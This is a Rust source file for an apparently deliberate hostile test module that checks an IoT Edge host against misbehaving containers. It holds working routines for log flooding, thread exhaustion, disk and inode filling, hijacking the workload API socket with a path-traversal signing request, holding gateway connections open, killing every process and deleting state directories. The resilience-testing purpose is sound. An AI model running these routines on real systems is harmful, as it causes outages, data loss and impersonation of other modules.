//! A module that means harm; its one argument says which. Healthy first, so that the harm comes while it is watched.
//!
//! Nothing in here reaches beyond what a container without any privilege can reach.

use std::fs;
use std::io::Write as _;
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::Path;
use std::thread;
use std::time::Duration;

use anyhow::{Context as _, bail};

/// What a flood of log lines comes to, in bytes.
const FLOOD: usize = 1 << 30;
/// Bytes of one file that fills the disk.
const FILE_BYTES: usize = 4 * candidates::MIB;
/// Ports of the edge runtime, which the probe answers on for the candidate.
const EDGE_PORTS: [u16; 3] = [443, 5671, 8883];
/// The workload API's socket, as IoT Edge binds it.
const WORKLOAD: &str = "/var/run/iotedge/workload.sock";
/// Connections that are opened and never used.
const IDLE_CONNECTIONS: usize = 500;

fn main() -> anyhow::Result<()> {
    candidates::exit_on_sigterm()?;
    let harm: fn() -> anyhow::Result<()> = match std::env::args().nth(1).as_deref() {
        Some("logs") => flood_logs,
        Some("forks") => fork,
        Some("disk") => fill_the_disk,
        Some("inodes") => take_all_inodes,
        Some("sockets") => answer_for_others,
        Some("siblings") => kill_everyone,
        Some("state") => overwrite_state,
        other => bail!("no such harm: {other:?}"),
    };
    thread::spawn(move || {
        // Long enough for a look at the port.
        thread::sleep(Duration::from_millis(700));
        let words = match harm() {
            Ok(()) => "done".to_owned(),
            Err(error) => format!("{error:#}"),
        };
        // It may be the log that is full.
        let _lost = candidates::say(&format!("hostile: {words}"));
    });
    candidates::serve("hostile")
}

fn flood_logs() -> anyhow::Result<()> {
    let line = [&[b'x'; 1023][..], b"\n"].concat();
    let lines = line.repeat(64);
    let mut out = std::io::stdout().lock();
    for _ in 0..FLOOD / lines.len() {
        out.write_all(&lines).context("flood the log")?;
    }
    Ok(())
}

/// Threads: the kernel has one table for both, and they cost it less than processes.
fn fork() -> anyhow::Result<()> {
    loop {
        let spawned = thread::Builder::new()
            .stack_size(64 * 1024)
            .spawn(|| candidates::idle());
        if spawned.is_err() {
            thread::sleep(Duration::from_millis(50));
        }
    }
}

fn fill_the_disk() -> anyhow::Result<()> {
    let content = candidates::touched(FILE_BYTES);
    for number in 0.. {
        fs::write(format!("/data/{number}"), &content).context("fill the disk")?;
    }
    Ok(())
}

fn take_all_inodes() -> anyhow::Result<()> {
    for number in 0.. {
        let directory = format!("/data/{:04}", number / 1000);
        if number % 1000 == 0 {
            fs::create_dir(&directory).context("make a directory")?;
        }
        fs::write(format!("{directory}/{:03}", number % 1000), "").context("make a file")?;
    }
    Ok(())
}

/// Listens where the edge runtime would, puts a socket of its own in the place of the workload API's, asks that for another
/// module's signature, and holds connections to the gateway open.
fn answer_for_others() -> anyhow::Result<()> {
    let mut held = Vec::new();
    for port in EDGE_PORTS {
        if let Ok(listener) = TcpListener::bind((Ipv4Addr::UNSPECIFIED, port)) {
            thread::spawn(move || listener.incoming().for_each(drop));
        }
    }
    let replaced = fs::remove_file(WORKLOAD)
        .and_then(|()| UnixListener::bind(WORKLOAD))
        .is_ok();
    candidates::say(&format!("hostile: socket replaced: {replaced}"))?;
    if let Ok(mut workload) = UnixStream::connect(WORKLOAD) {
        let path = "/modules/%2e%2e%2fedgeHub/genid/1/sign?api-version=2022-08-03";
        let body = r#"{"keyId":"primary","algo":"HMACSHA256","data":"AA=="}"#;
        write!(
            workload,
            "POST {path} HTTP/1.1\r\nHost: w\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .context("ask for another's signature")?;
    }
    let gateway = std::env::var("IOTEDGE_GATEWAYHOSTNAME").context("no gateway")?;
    for _ in 0..IDLE_CONNECTIONS {
        match TcpStream::connect((gateway.as_str(), 8883)) {
            Ok(mut connection) => {
                // No TLS at all.
                let _refused = connection.write_all(&[0xff; 512]);
                held.push(connection);
            }
            Err(_) => thread::sleep(Duration::from_millis(10)),
        }
    }
    candidates::idle()
}

/// Every process that it may signal: in a container without the host's pid namespace, its own.
fn kill_everyone() -> anyhow::Result<()> {
    for pid in 2..100_000 {
        if let Some(pid) = rustix::process::Pid::from_raw(pid) {
            let _gone = rustix::process::kill_process(pid, rustix::process::Signal::KILL);
        }
    }
    candidates::idle()
}

fn overwrite_state() -> anyhow::Result<()> {
    for name in ["runs", "queue", "outbox", "sockets"] {
        let _not_there = fs::remove_dir_all(Path::new("/stolen").join(name));
    }
    fs::write("/stolen/owned", "").context("write to the volume")
}
